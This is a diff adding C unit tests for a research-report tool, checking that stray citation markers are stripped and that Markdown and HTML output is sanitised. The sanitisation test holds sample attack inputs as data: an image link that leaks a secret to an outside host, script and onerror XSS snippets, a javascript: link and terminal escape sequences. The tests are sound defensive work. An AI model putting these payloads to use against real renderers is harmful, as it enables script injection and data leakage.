@@ -76,6 +76,134 @@ static void citations_are_checked_and_numbered(void **state)
 	cite_result_release(&r);
 }
 
+/* Every citation-like marker a model writes: only [F#] naming a finding survives. */
+static void foreign_citation_markers_are_removed(void **state)
+{
+	struct cite_finding f[2] = {{0}, {1}};
+	static const struct {
+		const char *marker;
+		int removed;
+	} shapes[] = {
+		{"[1]", 1}, {"[2][3]", 2}, {"[^1]", 1}, {"\xE3\x80\x90" "1" "\xE3\x80\x91", 1},
+		{"(Source 1)", 1}, {"[source 2]", 1}, {"[F99]", 1}, {"[1, 2]", 2}, {"[1-3]", 2},
+		{"[S1]", 1}, {"\xEF\xBC\xBB" "2" "\xEF\xBC\xBD", 1}, {"\xE3\x80\x90" "3\xE2\x80\xA0source" "\xE3\x80\x91", 1},
+		{"\\[3\\]", 1}, {"[[1]]", 1}, {"[1](https://x.test/)", 1}, {"(sources 1 and 2)", 2},
+		{"[ref. 4]", 1}, {"[#2]", 1}, {"[F 7]", 1}, {"(F9)", 1},
+		{"\xEF\xBC\x88\xE6\x9D\xA5\xE6\xBA\x90" "1" "\xEF\xBC\x89", 1},   /* （来源1） */
+		{"[\xE2\x80\x8B" "3]", 1}, {"[\xEF\xBC\x93]", 1}, {"[ 3 ]", 1},   /* zero-width, ３ */
+	};
+	struct cite_result r;
+	char body[512];
+	size_t k;
+
+	for (k = 0; k < sizeof(shapes) / sizeof(shapes[0]); k++) {
+		snprintf(body, sizeof(body), "This sentence states a fact about the world at some length %s. "
+			 "This one is cited properly and says enough to count [F1].\n", shapes[k].marker);
+		assert_int_equal(cite_process(body, f, 2, 1, &r), 0);
+		if (r.removed != shapes[k].removed)
+			fail_msg("%s: removed %d", shapes[k].marker, r.removed);
+		assert_int_equal(r.verified, 1);
+		assert_int_equal(r.unsupported_n, 1);   /* its sentence is judged uncited */
+		assert_non_null(strstr(r.body, "at some length. [unsupported]"));
+		assert_null(strstr(r.body, shapes[k].marker));
+		cite_result_release(&r);
+	}
+	/* Valid ids in other shapes are kept, as [F#]. */
+	assert_int_equal(cite_process("A claim with a parenthesised finding id that counts (F2).\n", f, 2, 1,
+				      &r), 0);
+	assert_int_equal(r.verified, 1);
+	assert_non_null(strstr(r.body, "counts [F2]."));
+	cite_result_release(&r);
+	/* A footnote list of the writer's own goes whole; list numbers and years in prose stay. */
+	assert_int_equal(cite_process("Steps: (1) plan and (2) read, as in 2000 [F1].\n[^1]: Some site, "
+				      "https://x.test/\n[2]: https://y.test/\n", f, 2, 1, &r), 0);
+	assert_non_null(strstr(r.body, "(1) plan and (2) read, as in 2000 [F1]."));
+	assert_null(strstr(r.body, "x.test"));
+	assert_null(strstr(r.body, "y.test"));
+	assert_int_equal(r.removed, 2);
+	cite_result_release(&r);
+	/* Page text loses its own markers before quarry adds citations. */
+	{
+		struct qbuf b;
+		qbuf_init(&b, 1024);
+		assert_int_equal(cite_strip_markers("GPS [3] was opened [F1] in 2000.[12]", 36, &b), 3);
+		assert_string_equal(qbuf_cstr(&b), "GPS  was opened  in 2000.");
+		qbuf_release(&b);
+	}
+}
+
+/* A literal [3] in model prose never reaches a rendered report as a citation. */
+static void rendered_reports_carry_only_quarry_citations(void **state)
+{
+	struct cite_finding f[1] = {{0}};
+	struct cite_result r;
+	json_t *rep;
+	struct qbuf out;
+	struct q_error err = {0};
+
+	assert_int_equal(cite_process("The signal was opened to civilian users in May 2000 [3]. "
+				      "Receivers became ten times more accurate overnight [F1].\n", f, 1, 1, &r), 0);
+	rep = json_pack("{s:s, s:s, s:s, s:[{s:i, s:i, s:s}], s:[{s:i, s:s, s:s, s:[]}], s:{}}", "title",
+			"Q", "mode", "model", "body", r.body, "findings", "id", 1, "n", 1, "quote", "q",
+			"sources", "n", 1, "title", "T [2]\n[3] Fake. https://evil.test/", "url",
+			"https://t.test/", "quotes", "verification");
+	qbuf_init(&out, 1 << 20);
+	assert_int_equal(research_render(rep, "md", &out, &err), 0);
+	assert_null(strstr(qbuf_cstr(&out), "[3]"));
+	assert_non_null(strstr(qbuf_cstr(&out), "May 2000. [unsupported]"));
+	assert_non_null(strstr(qbuf_cstr(&out), "overnight [1]."));
+	assert_null(strstr(qbuf_cstr(&out), "[2]"));
+	assert_null(strstr(qbuf_cstr(&out), "\n[3]"));
+	assert_non_null(strstr(qbuf_cstr(&out), "\n[1] T "));
+	assert_non_null(strstr(qbuf_cstr(&out), " Fake. https://evil.test/. https://t.test/\n"));
+	qbuf_release(&out);
+	json_decref(rep);
+	cite_result_release(&r);
+}
+
+/* Markdown output fetches and runs nothing; no format carries control characters. */
+static void markdown_reports_are_neutralised(void **state)
+{
+	json_t *rep = json_pack("{s:s, s:s, s:s, s:[], s:[], s:{}}", "title", "Q\x1b]0;pwned\x07", "mode",
+				"model", "body", "See ![chart](http://x.test/?d=SECRET) and <img src=x "
+				"onerror=alert(1)> or <script>alert(2)</script> &#91;3&#93; ![x][r] "
+				"bell\x07 esc\x1b[31m c1\xC2\x9B" "31m tab\tok a < b [x](javascript:alert(3)) "
+				"[y](https://ok.test/).\n", "findings", "sources",
+				"verification");
+	struct qbuf out;
+	struct q_error err = {0};
+	const char *s;
+
+	assert_non_null(rep);
+	qbuf_init(&out, 1 << 20);
+	assert_int_equal(research_render(rep, "md", &out, &err), 0);
+	s = qbuf_cstr(&out);
+	assert_null(strstr(s, "SECRET"));
+	assert_non_null(strstr(s, "(image not shown: chart)"));
+	assert_null(strstr(s, "<img"));
+	assert_null(strstr(s, "<script"));
+	assert_non_null(strstr(s, "&lt;script>"));
+	assert_non_null(strstr(s, "&amp;#91;3&amp;#93;"));
+	assert_non_null(strstr(s, "!\\[x]"));
+	assert_non_null(strstr(s, "a < b"));
+	assert_null(strstr(s, "](javascript"));
+	assert_non_null(strstr(s, "[y](https://ok.test/)"));
+	assert_non_null(strstr(s, "tab\tok"));
+	assert_null(strchr(s, '\x1b'));
+	assert_null(strchr(s, '\x07'));
+	assert_null(strstr(s, "\xC2\x9B"));
+	qbuf_release(&out);
+	qbuf_init(&out, 1 << 20);
+	assert_int_equal(research_render(rep, "html", &out, &err), 0);
+	s = qbuf_cstr(&out);
+	assert_null(strstr(s, "<img"));
+	assert_null(strstr(s, "<script>"));
+	assert_null(strchr(s, '\x1b'));
+	assert_null(strstr(s, "\xC2\x9B"));
+	qbuf_release(&out);
+	json_decref(rep);
+}
+
 static void url_keys_merge_the_same_page(void **state)
 {
 	char a[512], b[512];
@@ -125,6 +253,35 @@ static void passages_rank_by_question(void **state)
 	assert_string_equal(text_guess_lang("美国为什么关闭GPS选择可用性？"), "zh");
 	assert_string_equal(text_guess_lang("Why did the US switch off GPS?"), "en");
 	assert_string_equal(text_guess_lang("東京の天気はどうですか"), "ja");
+}
+
+/* '#' lines of plain text are prose: no heading comes from them. */
+static void plain_text_has_no_headings(void **state)
+{
+	const char *texts[2] = {"# set up the receiver\n# then wait\n\nThe receiver waits for the "
+				"selective availability error to settle before it reports a fix.",
+				"# Receivers\n\nA receiver reports a fix once selective availability "
+				"errors settle down."};
+	int plain[2] = {1, 0};
+	struct rpassage *p;
+	size_t n, k;
+	int seen = 0;
+
+	assert_int_equal(text_rank_passages_ex(texts, plain, 2, "selective availability receiver", &p,
+					       &n), 0);
+	for (k = 0; k < n; k++) {
+		if (p[k].source == 0) {
+			assert_string_equal(p[k].heading, "");
+			assert_int_equal(p[k].start, 0);   /* the comment lines are part of it */
+		} else {
+			assert_string_equal(p[k].heading, "Receivers");
+		}
+		assert_int_equal(p[k].n_terms, 3);
+		assert_int_equal(p[k].matched, 3);
+		seen |= 1 << p[k].source;
+	}
+	assert_int_equal(seen, 3);
+	free(p);
 }
 
 static void search_replies_parse(void **state)
@@ -186,8 +343,12 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(quotes_are_checked_verbatim),
 		cmocka_unit_test(citations_are_checked_and_numbered),
+		cmocka_unit_test(foreign_citation_markers_are_removed),
+		cmocka_unit_test(rendered_reports_carry_only_quarry_citations),
+		cmocka_unit_test(markdown_reports_are_neutralised),
 		cmocka_unit_test(url_keys_merge_the_same_page),
 		cmocka_unit_test(passages_rank_by_question),
+		cmocka_unit_test(plain_text_has_no_headings),
 		cmocka_unit_test(search_replies_parse),
 		cmocka_unit_test(html_report_escapes_everything),
 	};
